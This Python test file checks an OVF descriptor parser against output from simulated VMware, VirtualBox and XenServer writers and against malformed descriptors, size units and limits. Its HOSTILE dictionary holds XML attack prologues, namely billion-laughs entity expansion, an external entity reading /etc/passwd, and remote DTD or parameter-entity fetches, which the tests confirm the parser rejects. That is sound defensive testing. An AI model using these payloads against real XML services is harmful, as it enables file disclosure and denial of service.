"""OVF descriptors: what all three write is read, and hostile or broken XML is refused."""

from __future__ import annotations

import pytest

from flashvisor.errors import ExplodingImageError, OvfError, XmlEntityError
from flashvisor.transfer import ovf
from flashvisor.transfer.ovf import parse_bytes, parse_ovf
from sim.appliances import virtualbox, vmware, xenserver

SIZE = 8 << 20  # bytes
NAMES = ("one.vmdk", "two.vmdk")


@pytest.mark.parametrize("write", [vmware, virtualbox, xenserver])
def test_disks_and_files_of_all_three(write: object) -> None:
    envelope = parse_ovf(write(NAMES, SIZE), "x.ovf")  # type: ignore[operator]
    assert [disk.file.href for disk in envelope.disks.values() if disk.file] == list(NAMES)
    assert {disk.capacity for disk in envelope.disks.values()} == {SIZE}
    assert len(envelope.systems) == 1


HOSTILE = {
    "entity": '<!DOCTYPE x [<!ENTITY a "b">]>',
    "billion laughs": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>',
    "external entity": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "external parameter entity": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x">%a;]>',
    "document type elsewhere": '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">',
}


@pytest.mark.parametrize("prologue", HOSTILE.values(), ids=HOSTILE)
def test_xml_that_declares_anything_is_not_read(prologue: str) -> None:
    text = vmware(NAMES, SIZE).decode().replace("<!--Written", f"{prologue}<!--Written")
    with pytest.raises(XmlEntityError):
        parse_ovf(text.encode(), "x.ovf")


@pytest.mark.parametrize(
    ("old", "new", "word"),
    [
        ("</Envelope>", "", "well-formed"),
        ("<Envelope ", "<Other ", "well-formed"),
        ('ovf:fileRef="file2"', 'ovf:fileRef="file9"', "file9"),
        ('ovf:diskId="vmdisk2"', 'ovf:diskId="vmdisk2" ovf:parentRef="vmdisk1"', "differs"),
        ('ovf:id="file2"', 'ovf:id="file2" ovf:compression="bzip2"', "bzip2"),
        ('ovf:id="file2"', 'ovf:id="file2" ovf:chunkSize="99"', "chunks"),
        ('ovf:capacity="8"', 'ovf:capacity="${size}"', "size"),
        ('"byte * 2^20"', '"byte * many"', "many"),
        ("VirtualSystem", "SomethingElse", "no virtual machine"),
        ("UTF-8", "nonsense", "well-formed"),
    ],
)
def test_descriptors_that_make_no_sense(old: str, new: str, word: str) -> None:
    text = vmware(NAMES, SIZE).decode()
    assert old in text
    with pytest.raises(OvfError, match=word):
        parse_ovf(text.replace(old, new).encode(), "x.ovf")


def test_a_disk_larger_than_any() -> None:
    text = vmware(NAMES, SIZE).decode().replace("2^20", "2^50")
    with pytest.raises(ExplodingImageError, match="vmdisk1"):
        parse_ovf(text.encode(), "x.ovf")


def test_other_xml_and_too_much_of_it(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(OvfError, match="html"):
        parse_ovf(b"<html/>", "x.ovf")
    monkeypatch.setattr(ovf, "LIMIT", 10)
    with pytest.raises(OvfError, match="long"):
        parse_ovf(vmware(NAMES, SIZE), "x.ovf")


def test_more_machines_than_anybody_has() -> None:
    with pytest.raises(OvfError, match="257 virtual machines"):
        parse_ovf(b"<Envelope>" + b"<VirtualSystem/>" * 257 + b"</Envelope>", "x.ovf")


def test_a_file_compressed_by_gzip() -> None:
    text = vmware(NAMES, SIZE).decode().replace('ovf:id="file2"', 'ovf:id="file2" ovf:compression="gzip"')
    disks = parse_ovf(text.encode(), "x.ovf").disks
    assert [disk.file.compression for disk in disks.values() if disk.file] == ["", "gzip"]


def test_the_default_deployment_option_and_no_ranges() -> None:
    text = vmware(NAMES, SIZE).decode()
    options = (
        '<DeploymentOptionSection><Configuration ovf:id="small"/><Configuration ovf:id="big" ovf:default="true"/>'
        "</DeploymentOptionSection>"
    )
    text = text.replace("<DiskSection>", f"{options}<DiskSection>", 1)
    cpu = text[text.index("<Item>") : text.index("</Item>") + 7]
    small = cpu.replace("<Item>", '<Item ovf:configuration="small">').replace(">4<", ">1<")
    big = cpu.replace("<Item>", '<Item ovf:configuration="big other">').replace(">4<", ">8<")
    least = cpu.replace("<Item>", '<Item ovf:bound="min">').replace(">4<", ">2<")
    system = parse_ovf(text.replace(cpu, small + least + big).encode(), "x.ovf").systems[0]
    assert [item.quantity for item in system.items if item.kind == 3] == ["8"]


@pytest.mark.parametrize(
    ("quantity", "units", "size"),
    [
        ("5", "", 5),
        ("5", "byte", 5),
        ("2", "byte * 2^30", 2 << 30),
        ("2", "byte*2^20", 2 << 20),
        ("3", "byte * 1024 * 1024", 3 << 20),
        ("3", "byte * 10^6", 3_000_000),
        ("3", "MegaBytes", 3 << 20),
        ("3", "GB", 3 << 30),
        ("7", "bytes", 7),
    ],
)
def test_sizes_in_every_unit(quantity: str, units: str, size: int) -> None:
    assert parse_bytes(quantity, units, "it") == size


@pytest.mark.parametrize(
    ("quantity", "units"),
    [
        ("", "byte"),
        ("-1", "byte"),
        ("1.5", "byte"),
        ("1", "hertz"),
        ("9" * 30, ""),
        ("1", "byte + 2"),
        ("٣x", ""),
        ("1", "byte" + " * 10" * 5),
    ],
)
def test_sizes_that_are_none(quantity: str, units: str) -> None:
    with pytest.raises(OvfError):
        parse_bytes(quantity, units, "it")
